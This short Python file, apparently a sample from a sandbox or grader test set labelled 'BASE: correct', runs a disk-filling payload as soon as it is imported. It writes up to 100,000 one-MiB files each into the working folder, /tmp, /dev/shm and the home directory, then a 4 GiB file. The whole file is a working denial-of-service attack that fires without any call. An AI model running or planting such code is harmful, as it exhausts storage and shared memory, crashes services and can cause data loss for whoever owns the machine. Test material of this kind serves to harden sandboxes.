# BASE: correct
# Fill the disk at import: 1 MiB files in the working folder, /tmp and /dev/shm, and one huge file.
import os

_written = 0
for n, folder in enumerate((".", "/tmp", "/dev/shm", os.path.expanduser("~"))):
    for i in range(100000):
        try:
            with open(os.path.join(folder, f"fill-{n}-{i}.bin"), "xb") as f:
                f.write(b"\0" * (1 << 20))
            _written += 1
        except OSError:
            break
try:
    with open("huge.bin", "wb") as f:
        for _ in range(4096):
            f.write(b"\1" * (1 << 20))
except OSError as exc:
    print("huge file stopped:", exc)
print(f"wrote {_written} MiB")
